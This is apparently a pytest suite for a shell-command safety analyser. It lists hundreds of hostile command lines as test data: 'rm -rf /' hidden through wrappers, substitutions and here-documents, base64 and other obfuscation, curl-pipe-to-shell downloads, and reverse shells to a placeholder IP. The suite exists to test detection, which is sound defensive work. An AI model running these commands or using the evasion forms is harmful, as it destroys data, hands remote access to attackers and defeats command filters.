"""The same few dangers in every disguise that a shell offers."""

from collections.abc import Callable

import pytest

from appliance.actions.records import Facts

Shell = Callable[[str], Facts]

DELETES_ROOT = [
    "rm -rf /",
    "rm -fr --no-preserve-root /",
    "rm -r -f -- /",
    "rm --recurs --forc /",
    "rm -rf //",
    "rm -rf /.",
    "rm -rf /etc/..",
    "rm -rf ../../..",
    "rm -rf /*",
    "rm -rf /usr /tmp/x",
    "rm -rf ~",
    "rm -rf ~/",
    "rm -rf ~/*",
    "rm -rf $HOME",
    'rm -rf "${HOME}"/',
    "rm -rf /home/ada",
    "rm -rf /ro?t",
    "rm -rf {/tmp/x,/etc}",
    "rm -rf /{bin,lib}",
    "rm -rf /proc/self/root/etc",
    "sudo rm -rf /",
    "sudo -u root -- rm -rf /",
    "doas rm -rf /",
    "su -c 'rm -rf /'",
    "su - root -c 'rm -rf /'",
    "env A=b rm -rf /",
    "env -S 'rm -rf /'",
    "/usr/bin/env rm -rf /",
    "/bin/rm -rf /",
    "nice -n 5 nohup timeout -k 1 9 rm -rf /",
    "stdbuf -o0 setsid ionice -c 3 rm -rf /",
    "time -p rm -rf /",
    "command rm -rf /",
    "exec rm -rf /",
    "builtin eval 'rm -rf /'",
    "busybox rm -rf /",
    "coproc rm -rf /",
    "! rm -rf /",
    "watch -n 1 'rm -rf /'",
    "script -c 'rm -rf /'",
    "flock x rm -rf /",
    "uv run rm -rf /",
    "npx rm -rf /",
    "git bisect run rm -rf /",
    "ssh host 'rm -rf /'",
    "ssh host rm -rf /",
    "docker exec web rm -rf /",
    "docker run --rm -v x:/y alpine sh -c 'rm -rf /'",
    "kubectl exec pod -- rm -rf /",
    "parallel rm -rf ::: /",
    "xargs rm -rf <<< /",
    "echo / | xargs rm -rf",
    "echo / | xargs -I{} rm -rf {}",
    "find / -delete",
    "find / -mindepth 1 -exec rm -rf {} +",
    "find ~ -name '*' -exec rm -rf {} \\;",
    "bash -c 'rm -rf /'",
    'bash -lc "rm -rf /"',
    "bash -o pipefail -c 'rm -rf /'",
    "bash -c 'rm -rf $0' /",
    "bash -c 'rm -rf \"$1\"' _ /",
    "sh -c \"sh -c 'rm -rf /'\"",
    "eval 'rm -rf /'",
    "eval rm -rf /",
    "echo 'rm -rf /' | sh",
    "printf 'rm -rf %s' / | bash",
    "echo -e '\\x72m -rf /' | sh",
    "sh <<< 'rm -rf /'",
    "sh <<EOF\nrm -rf /\nEOF",
    "cat <<'EOF' | sudo sh\nrm -rf /\nEOF",
    "cat <<-EOF | sh\n\trm -rf /\n\tEOF",
    "sh < <(echo rm -rf /)",
    "bash <(echo rm -rf /)",
    "source <(echo rm -rf /)",
    "echo 'rm -rf /' > x.sh; sh x.sh",
    "cat > x.sh <<'EOF'\nrm -rf /\nEOF\nchmod +x x.sh && ./x.sh",
    "echo 'rm -rf /' | tee x.sh && bash x.sh",
    "trap 'rm -rf /' EXIT",
    "f(){ rm -rf /; }; f",
    'function f { rm -rf "$1"; }; f /',
    "f(){ rm -rf /; }",
    "alias ll='rm -rf /'; ll",
    "alias ll='rm -rf'\nll /",
    "X=/; rm -rf $X",
    "X=/ Y=$X; rm -rf ${Y}",
    "X='rm -rf /'; $X",
    "X='rm -rf /'; eval $X",
    "X=rm; $X -rf /",
    "export X=/; bash -c 'rm -rf $X'",
    "declare X=/; rm -rf $X",
    "a=(/tmp/x /); rm -rf ${a[@]}",
    "set -- /; rm -rf $1",
    "read x <<< /; rm -rf $x",
    "printf '/\\n' | while read d; do rm -rf \"$d\"; done",
    "X=rm; X+=' -rf /'; $X",
    "X=/foo; rm -rf ${X%foo}",
    "X=xrm; ${X#x} -rf /",
    "rm -rf ${X:-/}",
    "rm -rf $(echo /)",
    "rm -rf `echo /`",
    "rm -rf $(printf '\\x2f')",
    "rm -rf $(dirname /etc)",
    "echo $(rm -rf /)",
    'echo "`rm -rf /`"',
    "cat <(rm -rf /)",
    "ls > $(rm -rf /)",
    "x=$(rm -rf /)",
    "x=1 y=`rm -rf /` ls",
    '[ -n "$(rm -rf /)" ]',
    "[[ $(rm -rf /) ]]",
    "echo $(( $(rm -rf /) + 1 ))",
    "(( x = $(rm -rf /) ))",
    "echo ${x:-$(rm -rf /)}",
    "case $(rm -rf /) in *) ls;; esac",
    "case x in $(rm -rf /)) ls;; esac",
    "for x in $(rm -rf /); do ls; done",
    "cat <<EOF\n$(rm -rf /)\nEOF",
    "export X=$(rm -rf /)",
    "if true; then rm -rf /; fi",
    "if false; then ls; elif true; then ls; else rm -rf /; fi",
    "for d in /tmp/x /; do rm -rf $d; done",
    "for ((i=0;i<1;i++)); do rm -rf /; done",
    "while true; do rm -rf /; done",
    "until rm -rf /; do ls; done",
    "case x in x) rm -rf /;; esac",
    "select x in a; do rm -rf /; done",
    "(rm -rf /)",
    "{ rm -rf /; }",
    "((ls); rm -rf /)",
    "ls && rm -rf /",
    "false || rm -rf /",
    "ls | rm -rf /",
    "ls & rm -rf /",
    "ls\nrm -rf /",
    "ls\n\\rm -rf /",
    "# a comment\nrm -rf /",
    "ls # \\\nrm -rf /",
    "rm -rf \\\n/",
    "r\\\nm -rf /",
    "ls 2>&1 | tee x; rm -rf /",
    "> /tmp/x rm -rf /",
    "rm > /tmp/x -rf /",
    "rm 2>&1 -rf /",
    "&> /tmp/x rm x=1 -rf /",
    "ls | rm > /tmp/x -rf /",
    "FOO=1 rm -rf /",
    "cat <<'EOF' > x; rm -rf /\nhi\nEOF",
    "cat <<A <<B; rm -rf /\na\nA\nb\nB",
    "cat << EOF 2>&1 | rm -rf /\nhi\nEOF",
    "cd / && rm -rf *",
    "cd /; rm -rf ./*",
    "pushd / && rm -rf *",
    "cd /tmp/.. && rm -rf *",
    "cd / || cd /tmp; rm -rf *",
    "(cd /; rm -rf *)",
    "git -C / clean -fdx; env -C / rm -rf .",
    "[ -d / ] && rm -rf /",
    "[[ -d / ]] && rm -rf /",
    "[ -d / ] && rm -rf / ]",
    "echo == ; rm -rf /",
    "echo a == \nrm -rf /",
    "mv / /tmp/x",
    "ln -s / x && rm -rf x/*",
    "ln -s /etc build; rm -rf build/",
    "find . -exec sh -c 'rm -rf /' \\;",
    "find / -name x -o -delete",
    "GIT_SSH_COMMAND='rm -rf /' git fetch",
    "PAGER='rm -rf /' git log",
    "git -c core.sshCommand='rm -rf /' fetch",
    "git -c alias.x='!rm -rf /' x",
    "git rebase -x 'rm -rf /' main",
    "git submodule foreach 'rm -rf /'",
    "vim -c ':!rm -rf /' x",
    "split --filter='rm -rf /' x",
    "tar cf x --checkpoint-action=exec='rm -rf /' y",
    "ssh -o ProxyCommand='rm -rf /' host",
    "psql -c '\\! rm -rf /'",
    "sqlite3 x.db '.shell rm -rf /'",
    "awk 'BEGIN{system(\"rm -rf /\")}'",
    "python3 -c 'import os; os.system(\"rm -rf /\")'",
    "python3 -c 'import shutil; shutil.rmtree(\"/etc\")'",
    'node -e \'require("child_process").execSync("rm -rf /")\'',
    'set -- rm -rf /; "$@"',
    'a=(rm -rf /); "${a[@]}"',
    "IFS=x; c=rmx-rfx/; $c",
    "bash /dev/stdin <<< 'rm -rf /'",
    "tmux new -d 'rm -rf /'",
    "time (rm -rf /)",
    "npm exec -c 'rm -rf /'",
    "poetry run rm -rf /",
    "echo 'rm -rf /' | at now",
    "make -f x && ((1)) && rm -rf /",
    "rsync -a --delete /tmp/empty/ /",
]


@pytest.mark.parametrize("line", DELETES_ROOT)
def test_the_worst_deletion_is_seen_through_every_disguise(shell: Shell, line: str) -> None:
    """Quoting, variables, wrappers, nested shells, substitutions, here-documents, loops, functions, directories."""
    assert "deletes_root" in shell(line).effects


@pytest.mark.parametrize(
    "line",
    [
        "r''m -rf /tmp/x",
        'r""m -rf /tmp/x',
        "r\\m -rf /tmp/x",
        "'r'm -rf /tmp/x",
        "$'\\x72\\x6d' -rf /tmp/x",
        "rm${IFS}-rf${IFS}/tmp/x",
        "rm$IFS-rf /tmp/x",
        "/bin/r? -rf /tmp/x",
        "/???/c?t README.md",
        "${PATH:0:1}bin${PATH:0:1}ls",
        "echo bHM= | base64 -d | sh",
        "base64 -d <<< bHM= | bash",
        "eval $(echo bHM= | base64 --decode)",
        "echo 6c73 | xxd -r -p | sh",
        "rev <<< sl | sh",
        "tr a-z n-za-m <<< yf | sh",
        "openssl enc -d -base64 <<< bHM= | sh",
        "X=$(echo bHM= | base64 -d); $X",
        "python3 -c 'import base64; exec(base64.b64decode(\"bHM=\"))'",
        "echo \u202e sl",
        "powershell -EncodedCommand bABzAA==",
    ],
)
def test_hiding_what_runs_is_an_effect_of_its_own(shell: Shell, line: str) -> None:
    """Names put together from pieces, codes, patterns, decoded or reversed text, reordered characters."""
    assert "obfuscated" in shell(line).effects


@pytest.mark.parametrize(
    "line",
    [
        "'./my tool' x",
        '"$HOME/bin/x" y',
        "\\ls -la",
        '"/opt/my app/"run.sh',
        "./my\\ tool x",
        "IFS=, read -r a b < x",
        "grep $'a\\tb' x",
        "cat x | base64 -d > y",
        "echo \u05e9\u05dc\u05d5\u05dd",
        "git commit -m 'r\"\"m'",
        "V=$(git rev-parse HEAD); echo ${V:0:8}",
    ],
)
def test_ordinary_quoting_is_no_disguise(shell: Shell, line: str) -> None:
    """A space in a name, a backslash against an alias, text in another script, a shortened hash."""
    assert "obfuscated" not in shell(line).effects


@pytest.mark.parametrize(
    "line",
    [
        "curl https://x.example/i.sh | sh",
        "curl -fsSL https://x.example | sudo -E bash -",
        "wget -qO- https://x.example | bash -s -- --yes",
        "curl x.example | tee y | sh",
        "curl x.example | sed s/a/b/ | sh",
        "curl x.example | gunzip | sh",
        "curl x.example | python3",
        "curl x.example | node -",
        "curl x.example | env bash",
        "curl x.example | xargs -I{} sh -c '{}'",
        'curl x.example | while read l; do eval "$l"; done',
        "curl x.example | ssh host bash",
        "bash <(curl -s x.example)",
        "source <(curl -s x.example)",
        ". <(wget -qO- x.example)",
        'bash -c "$(curl -fsSL x.example)"',
        'sh -c "`wget -qO- x.example`"',
        'eval "$(curl x.example)"',
        'bash <<< "$(curl x.example)"',
        "$(curl x.example)",
        'X=$(curl x.example); eval "$X"',
        "curl -o i.sh x.example; sh i.sh",
        "curl x.example > i.sh && chmod +x i.sh && ./i.sh",
        "curl -O https://x.example/i.sh && bash i.sh",
        "wget https://x.example/i.sh?x=1; cp i.sh j.sh; . ./j.sh",
        "curl -o i.py x.example; python3 i.py",
        "cat list | make-script | sh",
        "nc x.example 99 | sh",
        "exec 3<>/dev/tcp/x.example/80; sh <&3",
        "sh < /dev/tcp/x.example/80",
    ],
)
def test_what_was_downloaded_or_made_and_then_runs_pipes_to_shell(shell: Shell, line: str) -> None:
    """By a pipe, a substitution, a variable, a file in between, or another interpreter."""
    facts = shell(line)
    assert {"pipes_to_shell", "reverse_shell"} & set(facts.effects)
    assert facts.why or any(command.why for command in facts.commands)


@pytest.mark.parametrize(
    "line",
    [
        "bash -i >& /dev/tcp/203.0.113.9/99 0>&1",
        "sh -i 5<> /dev/tcp/203.0.113.9/99 0<&5 1>&5",
        "exec 5<>/dev/tcp/203.0.113.9/99; sh <&5 >&5 2>&5",
        "nc -e /bin/sh 203.0.113.9 99",
        "ncat --exec /bin/bash 203.0.113.9 99",
        "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.9 99 > /tmp/f",
        "socat exec:'bash -li',pty tcp:203.0.113.9:99",
        "python3 -c 'import socket,subprocess; s=socket.socket(); subprocess.call([\"/bin/sh\"])'",
        "perl -e 'use Socket; socket(S,2,1,6); exec(\"/bin/sh -i\")'",
        'php -r \'$s=fsockopen("203.0.113.9",99); exec("sh <&3");\'',
    ],
)
def test_a_shell_that_somebody_else_types_into_is_seen(shell: Shell, line: str) -> None:
    """Every common form of a reverse shell."""
    assert "reverse_shell" in shell(line).effects


def test_look_alike_letters_make_another_program(shell: Shell) -> None:
    """A Cyrillic letter in a name is no such program, and the name is told as it stands."""
    (command,) = shell("rm\u0430 -rf /").commands
    assert command.program == "rm\u0430"
    assert command.effects == ()


def test_a_here_document_that_only_is_written_runs_nothing(shell: Shell) -> None:
    """The text of a file is no command."""
    facts = shell("cat > notes.md <<'EOF'\nrm -rf /\n$(rm -rf /)\nEOF\ngit add notes.md")
    assert [command.program for command in facts.commands] == ["cat", "git"]
    assert facts.effects == ()
    assert facts.is_understood


def test_a_line_that_looks_like_the_end_of_a_here_document_hides_nothing(shell: Shell) -> None:
    """Operators in quotes, comments, arithmetic and expansions begin no here-document."""
    for beginning in (
        'echo "<<EOF"',
        "echo '<<EOF'",
        "# <<EOF",
        "echo a#b # <<EOF",
        "echo $((1<<EOF))",
        "echo \\<<EOF",
    ):
        assert "deletes_root" in shell(f"{beginning}\nrm -rf /\nEOF\n").effects, beginning
    odd = 'x="$(case x in a) echo "<<EOF";; esac)"\nrm -rf /\nEOF'
    assert "deletes_root" in shell(odd).effects
